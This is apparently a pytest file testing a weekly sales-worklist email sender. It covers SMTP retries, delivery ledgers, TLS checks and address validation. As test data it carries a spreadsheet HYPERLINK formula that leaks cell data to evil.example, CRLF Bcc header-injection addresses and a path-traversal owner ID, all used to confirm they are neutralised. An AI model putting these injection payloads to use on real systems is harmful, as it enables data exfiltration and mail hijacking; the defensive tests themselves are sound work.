"""Delivery of the weekly worklists: owners checked one by one, the ledger, timeouts, security.

Real SMTP servers on loopback (aiosmtpd), and a TCP listener that never speaks. The weekly runs
here run no notebook (``notebooks=[]``): only the worklist and delivery steps.
"""

from __future__ import annotations

import csv
import datetime as dt
import email
import email.message
import email.policy
import io
import json
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from aiosmtpd.controller import Controller

from ierkit import weekly

AS_OF = dt.date(2026, 11, 20)  # ISO week 2026-W47
WEEK = "2026-W47"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'


@dataclass
class _Server:
    """An SMTP server's handler: accepts ``accept`` messages (all when None), then answers 554;
    refuses the recipients in ``refuse`` with 550."""

    accept: int | None = None
    refuse: set[str] = field(default_factory=set)
    received: list[tuple[list[str], email.message.EmailMessage]] = field(default_factory=list)

    async def handle_RCPT(  # noqa: N802 - the name aiosmtpd calls
        self, server: Any, session: Any, envelope: Any, address: str, options: Any
    ) -> str:
        if address in self.refuse:
            return "550 5.1.1 no such user here"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:  # noqa: N802 - the name aiosmtpd calls
        if self.accept is not None and len(self.received) >= self.accept:
            return "554 5.3.4 no more messages accepted today"
        message = email.message_from_bytes(envelope.content, policy=email.policy.default)
        assert isinstance(message, email.message.EmailMessage)
        self.received.append((list(envelope.rcpt_tos), message))
        return "250 OK"

    def recipients(self) -> list[str]:
        return [to for tos, _ in self.received for to in tos]


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


@pytest.fixture
def serve() -> Iterator[Any]:
    """Start SMTP servers on loopback: ``serve(handler)`` returns settings that reach it."""
    controllers: list[Controller] = []

    def start(handler: _Server, **settings: Any) -> weekly.SmtpSettings:
        controller = Controller(handler, hostname="127.0.0.1", port=_free_port())
        controller.start()
        controllers.append(controller)
        return weekly.SmtpSettings(
            **{
                "host": "127.0.0.1",
                "port": controller.port,
                "sender": "revops@example.com",
                "user": None,
                "password": None,
                "security": "none",
                "timeout": 5.0,
                **settings,
            }
        )

    yield start
    for controller in controllers:
        controller.stop()


def _worklist(owners: int = 6) -> pl.DataFrame:
    ids = [f"005OWNER{i:07d}" for i in range(owners)]
    return pl.DataFrame(
        {
            "owner_id": ids,
            "owner_name": [f"Rep {i}" for i in range(owners)],
            "owner_email": [f"rep{i}@example.com" for i in range(owners)],
            "recipient_name": [f"Zed {i}" for i in range(owners)],
            "total_clicks": list(range(owners)),
        }
    )


def _run(
    out: Path, worklist: pl.DataFrame, smtp: weekly.SmtpSettings | None, **options: Any
) -> weekly.WeeklyResult:
    return weekly.run_weekly(
        as_of=AS_OF,
        out_root=out,
        notebooks=[],
        worklist=lambda: worklist,
        email=smtp is not None,
        smtp=smtp,
        progress=lambda _: None,
        **options,
    )


def test_a_server_refusing_from_the_fourth_message_then_a_rerun_delivers_each_once(
    tmp_path: Path, serve: Any
) -> None:
    everyone = [f"rep{i}@example.com" for i in range(6)]
    first = _Server(accept=3)
    with pytest.raises(weekly.DeliveryError) as caught:
        _run(tmp_path, _worklist(), serve(first))
    assert first.recipients() == everyone[:3]
    error = caught.value
    assert error.sent == everyone[:3] and error.not_sent == everyone[3:]
    message = str(error)
    assert "stopped at rep3@example.com (4 of 6): SMTPDataError: (554" in message
    assert "Sent now (3): rep0@example.com, rep1@example.com, rep2@example.com" in message
    assert "NOT sent (3): rep3@example.com, rep4@example.com, rep5@example.com" in message
    ledger = tmp_path / WEEK / "messages" / weekly.LEDGER_NAME
    assert str(ledger) in message and "send only the 3 not sent" in message
    assert [e["recipient"] for e in map(json.loads, ledger.read_text().splitlines())] == everyone[
        :3
    ]

    second = _Server()
    result = _run(tmp_path, _worklist(), serve(second))
    assert second.recipients() == everyone[3:]
    assert result.emailed == everyone[3:] and result.emailed_before == everyone[:3]
    # Across both servers, each owner got exactly one message, and only their own.
    delivered = first.received + second.received
    assert sorted(to for tos, _ in delivered for to in tos) == everyone
    for tos, message in delivered:
        assert tos == [message["To"]]
        assert message["Message-ID"]

    third = _Server()
    assert _run(tmp_path, _worklist(), serve(third)).emailed == []
    assert third.received == []  # a week fully delivered sends nothing again

    fourth = _Server()
    assert _run(tmp_path, _worklist(), serve(fourth), resend=True).emailed == everyone
    assert fourth.recipients() == everyone
    sent_ids = [json.loads(line)["message_id"] for line in ledger.read_text().splitlines()]
    assert len(sent_ids) == 12 and len(set(sent_ids)) == 12


def test_a_refused_recipient_does_not_stop_the_others(tmp_path: Path, serve: Any) -> None:
    server = _Server(refuse={"rep2@example.com"})
    lines: list[str] = []
    with pytest.raises(weekly.DeliveryError, match=r"refused 1 recipient") as caught:
        weekly.run_weekly(
            as_of=AS_OF,
            out_root=tmp_path,
            notebooks=[],
            worklist=lambda: _worklist(4),
            email=True,
            smtp=serve(server),
            progress=lines.append,
        )
    assert server.recipients() == ["rep0@example.com", "rep1@example.com", "rep3@example.com"]
    assert caught.value.not_sent == ["rep2@example.com"]
    assert any("refused rep2@example.com: 550 5.1.1 no such user" in line for line in lines)
    # The rerun sends only the one that was refused.
    again = _Server()
    _run(tmp_path, _worklist(4), serve(again))
    assert again.recipients() == ["rep2@example.com"]


def test_bad_owners_are_skipped_and_the_rest_delivered(tmp_path: Path, serve: Any) -> None:
    long_name = "Ann " + "x" * 296
    worklist = pl.DataFrame(
        {
            "owner_id": ["005GOOD", "005/../../etc", "005LONG", "005TWO", "005CRLF", "005DUP"],
            "owner_name": ["Good Rep", "Slash Id", long_name, "Two Rcpt", "Crlf Rep", "Dup Rep"],
            "owner_email": [
                "good@example.com",
                "slash@example.com",
                "long@example.com",
                "alex@x.example, spy@evil.example",
                "crlf@example.com\r\nBcc: spy@evil.example",
                '"dup@example.com" <spy@evil.example>',
            ],
            "recipient_name": ["A", "B", "C", "D", "E", "F"],
        }
    )
    server = _Server()
    lines: list[str] = []
    result = weekly.run_weekly(
        as_of=AS_OF,
        out_root=tmp_path,
        notebooks=[],
        worklist=lambda: worklist,
        email=True,
        smtp=serve(server),
        progress=lines.append,
    )
    assert sorted(server.recipients()) == [
        "good@example.com",
        "long@example.com",
        "slash@example.com",
    ]
    assert all(len(tos) == 1 for tos, _ in server.received)
    assert not any("evil" in to for to in server.recipients())
    assert [(s.owner_id, s.name) for s in result.skipped] == [
        ("005CRLF", "Crlf Rep"),
        ("005DUP", "Dup Rep"),
        ("005TWO", "Two Rcpt"),
    ]
    week = tmp_path / WEEK
    skipped = (week / weekly.SKIPPED_NAME).read_text()
    assert "Two Rcpt\t005TWO\t'alex@x.example, spy@evil.example' is not exactly one" in skipped
    assert "Crlf Rep\t005CRLF\tthe email address contains a line break" in skipped
    assert "Dup Rep\t005DUP\t" in skipped and "is not a plain address" in skipped
    log = (week / weekly.LOG_NAME).read_text()
    assert log.count("warning: owner ") == 3 and "emailed 3 owners" in log
    assert sum("warning: owner " in line for line in lines) == 3
    # Every owner still has a worklist, under a file name any filesystem takes.
    names = sorted(p.name for p in (week / "worklists").glob("*.csv"))
    assert len(names) == 6
    assert all(len(name.encode()) < 120 and "/" not in name for name in names)
    assert (week / "worklists" / f"slash-id-005etc_{_digest('005/../../etc')}.csv").exists()
    assert any(name.startswith("ann-xxxxxxxx") and name.endswith("-005LONG.csv") for name in names)


def _digest(text: str) -> str:
    import hashlib

    return hashlib.sha256(text.encode()).hexdigest()[:8]


def test_formula_names_are_neutralised_in_the_worklist_and_the_attachment(
    tmp_path: Path, serve: Any
) -> None:
    worklist = pl.DataFrame(
        {
            "owner_id": ["005A", "005A"],
            "owner_name": ["Ann Able", "Ann Able"],
            "owner_email": ["ann@example.com", "ann@example.com"],
            "recipient_name": [HYPERLINK, "@Zed"],
            "recipient_company": ["+Acme", "Acme - West"],
            "total_clicks": [-1, 3],
        }
    )
    server = _Server()
    _run(tmp_path, worklist, serve(server))
    saved = (tmp_path / WEEK / "worklists" / "ann-able-005A.csv").read_text()
    ((_, message),) = server.received
    (attachment,) = list(message.iter_attachments())
    attached = attachment.get_content()
    attached = attached.decode() if isinstance(attached, bytes) else attached
    for text in (saved, attached):
        rows = list(csv.DictReader(io.StringIO(text)))
        assert [r["recipient_name"] for r in rows] == ["'" + HYPERLINK, "'@Zed"]
        assert [r["recipient_company"] for r in rows] == ["'+Acme", "Acme - West"]
        assert [r["total_clicks"] for r in rows] == ["-1", "3"]  # numbers stay numbers
    # The HTML shows the name as text, escaped (a text node needs & and < escaped, not quotes).
    html_body = message.get_body(("html",))
    assert html_body is not None
    assert '=HYPERLINK("http://evil.example/?x="&amp;A2' in html_body.get_content()


def test_week_files_are_private(tmp_path: Path, serve: Any) -> None:
    _run(tmp_path, _worklist(2), serve(_Server()))
    week = tmp_path / WEEK
    paths = [week, *week.rglob("*")]
    assert {p.name for p in paths} >= {weekly.LEDGER_NAME, weekly.LOG_NAME, weekly.SKIPPED_NAME}
    for path in paths:
        assert path.stat().st_mode & 0o777 == (0o700 if path.is_dir() else 0o600), path


@pytest.fixture
def silent_listener() -> Iterator[int]:
    """A TCP listener on loopback that accepts connections and never says a word."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    held: list[socket.socket] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                held.append(listener.accept()[0])
            except TimeoutError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield listener.getsockname()[1]
    stop.set()
    thread.join(5)
    for connection in held:
        connection.close()
    listener.close()


@pytest.mark.parametrize("security", ["ssl", "starttls", "none"])
def test_a_server_that_never_answers_times_out_in_every_mode(
    silent_listener: int, security: str
) -> None:
    settings = weekly.SmtpSettings.from_env(
        {
            "IERKIT_SMTP_HOST": "127.0.0.1",
            "IERKIT_SMTP_PORT": str(silent_listener),
            "IERKIT_SMTP_FROM": "revops@example.com",
            "IERKIT_SMTP_SECURITY": security,
            "IERKIT_SMTP_TIMEOUT": "0.5",
        }
    )
    message = weekly.build_message(
        sender="revops@example.com",
        recipient="ann@example.com",
        subject="s",
        html_body="<p>x</p>",
        csv_name="w.csv",
        csv_bytes=b"a\n",
    )
    started = time.monotonic()
    with pytest.raises(
        weekly.DeliveryError, match=r"did not answer within 0.5 s \(IERKIT_SMTP_TIMEOUT"
    ) as caught:
        weekly.send_messages([message], settings)
    assert time.monotonic() - started < 5
    assert caught.value.not_sent == ["ann@example.com"]


@pytest.mark.parametrize("host", ["smtp.example.com", "10.0.0.5", "::ffff:8.8.8.8"])
def test_a_login_in_clear_to_another_host_is_refused(host: str) -> None:
    env = {
        "IERKIT_SMTP_HOST": host,
        "IERKIT_SMTP_FROM": "revops@example.com",
        "IERKIT_SMTP_USER": "robot",
        "IERKIT_SMTP_PASSWORD": "Sup3r-Secret-Pa55word-7731",
        "IERKIT_SMTP_SECURITY": "none",
    }
    with pytest.raises(weekly.WeeklyRunError) as caught:
        weekly.SmtpSettings.from_env(env)
    message = str(caught.value)
    assert f"would send the password in clear to {host}: use starttls or ssl" in message
    assert "Sup3r" not in message
    # The same login over TLS, or to this machine, is accepted.
    assert weekly.SmtpSettings.from_env({**env, "IERKIT_SMTP_SECURITY": "starttls"}).user
    for loopback in ("127.0.0.1", "localhost", "::1"):
        assert weekly.SmtpSettings.from_env({**env, "IERKIT_SMTP_HOST": loopback}).user


def test_starttls_to_a_server_without_it_fails_instead_of_sending_in_clear(
    serve: Any,
) -> None:
    server = _Server()
    settings = serve(server, security="starttls", user="robot", password="Sup3r-Secret-7731")
    message = weekly.build_message(
        sender="revops@example.com",
        recipient="ann@example.com",
        subject="s",
        html_body="<p>x</p>",
        csv_name="w.csv",
        csv_bytes=b"a\n",
    )
    with pytest.raises(weekly.DeliveryError, match="SMTPNotSupportedError") as caught:
        weekly.send_messages([message], settings)
    assert "Sup3r" not in str(caught.value)
    assert server.received == []


@pytest.mark.parametrize(
    ("variable", "value", "expected"),
    [
        ("IERKIT_SMTP_TIMEOUT", "soon", "IERKIT_SMTP_TIMEOUT must be a number of seconds"),
        ("IERKIT_SMTP_TIMEOUT", "nan", "IERKIT_SMTP_TIMEOUT must be a number of seconds above 0"),
        ("IERKIT_SMTP_TIMEOUT", "0", "IERKIT_SMTP_TIMEOUT must be a number of seconds above 0"),
        ("IERKIT_SMTP_PORT", "70000", "IERKIT_SMTP_PORT must be a port number"),
        ("IERKIT_SMTP_FROM", "a@x.example, b@y.example", "IERKIT_SMTP_FROM must be one address"),
        ("IERKIT_SMTP_FROM", "a@x.example\r\nBcc: b@y.example", "IERKIT_SMTP_FROM must be one"),
    ],
)
def test_smtp_settings_refuse_nonsense(variable: str, value: str, expected: str) -> None:
    env = {"IERKIT_SMTP_HOST": "127.0.0.1", "IERKIT_SMTP_FROM": "revops@example.com"}
    with pytest.raises(weekly.WeeklyRunError, match=expected):
        weekly.SmtpSettings.from_env({**env, variable: value})


@pytest.mark.parametrize(
    ("value", "accepted"),
    [
        ("ann@example.com", True),
        (" ann.o'neil+week@sub.example.com ", True),
        ("alex@x.example, spy@evil.example", False),
        ("alex@x.example; spy@evil.example", False),
        ("Alex <alex@x.example>", False),
        ("alex@x.example (spy@evil.example)", False),
        ("alex@x.example\nBcc: spy@evil.example", False),
        ("alex@localhost", False),
        ("ann@exämple.com", False),
        ("a" * 250 + "@x.example", False),
        ("not an address", False),
    ],
)
def test_check_address_takes_exactly_one_plain_address(value: str, accepted: bool) -> None:
    if accepted:
        assert weekly.check_address(value) == value.strip()
    else:
        with pytest.raises(weekly.AddressError):
            weekly.check_address(value)
